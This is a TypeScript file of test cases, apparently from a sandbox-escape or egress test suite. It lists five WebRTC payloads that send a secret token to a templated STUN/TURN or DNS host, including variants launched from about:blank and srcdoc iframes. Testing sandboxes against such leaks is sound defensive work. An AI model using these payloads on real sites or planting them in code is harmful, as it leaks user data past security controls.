import type { Attack } from "../support/attack.ts";

export const webRtcAttacks: readonly Attack[] = [
  {
    id: "rtc-stun",
    title: "RTCPeerConnection to STUN/TURN",
    code: String.raw`const W=self;const pc=new (W.RTCPeerConnection||W.webkitRTCPeerConnection)({iceServers:[{urls:'stun:{{UDP}}'},{urls:'turn:{{UDP}}',username:'secret-{{T}}',credential:'x'}]});pc.createDataChannel('x');await pc.setLocalDescription(await pc.createOffer());`,
    signs: ["egress"],
  },
  {
    id: "rtc-turn-tcp",
    title: "RTCPeerConnection TURN over TCP",
    code: String.raw`const pc=new RTCPeerConnection({iceServers:[{urls:'turn:{{TCP}}?transport=tcp',username:'secret-{{T}}',credential:'x'}]});pc.createDataChannel('x');await pc.setLocalDescription(await pc.createOffer());`,
    signs: ["egress"],
  },
  {
    id: "rtc-dns",
    title: "STUN host name carries the data (DNS)",
    code: String.raw`const pc=new RTCPeerConnection({iceServers:[{urls:'stun:{{T}}rtc.{{DNS}}:3478'}]});pc.createDataChannel('x');await pc.setLocalDescription(await pc.createOffer());`,
    signs: ["egress"],
  },
  {
    id: "rtc-blank",
    title: "RTCPeerConnection from an about:blank realm",
    code: String.raw`const f=document.createElement('iframe');document.body.append(f);const W=f.contentWindow;const pc=new (W.RTCPeerConnection||W.webkitRTCPeerConnection)({iceServers:[{urls:'stun:{{UDP}}'},{urls:'turn:{{UDP}}',username:'secret-{{T}}',credential:'x'}]});pc.createDataChannel('x');await pc.setLocalDescription(await pc.createOffer());`,
    signs: ["egress"],
    stoppedBySandbox: true,
  },
  {
    id: "rtc-srcdoc",
    title: "RTCPeerConnection from a srcdoc realm",
    code: String.raw`const f=document.createElement('iframe');f.srcdoc='<script>(async()=>{const W=self;const pc=new (W.RTCPeerConnection||W.webkitRTCPeerConnection)({iceServers:[{urls:\'stun:{{UDP}}\'},{urls:\'turn:{{UDP}}\',username:\'secret-{{T}}\',credential:\'x\'}]});pc.createDataChannel(\'x\');await pc.setLocalDescription(await pc.createOffer());})()<\/script>';document.body.append(f)`,
    signs: ["egress"],
  },
];
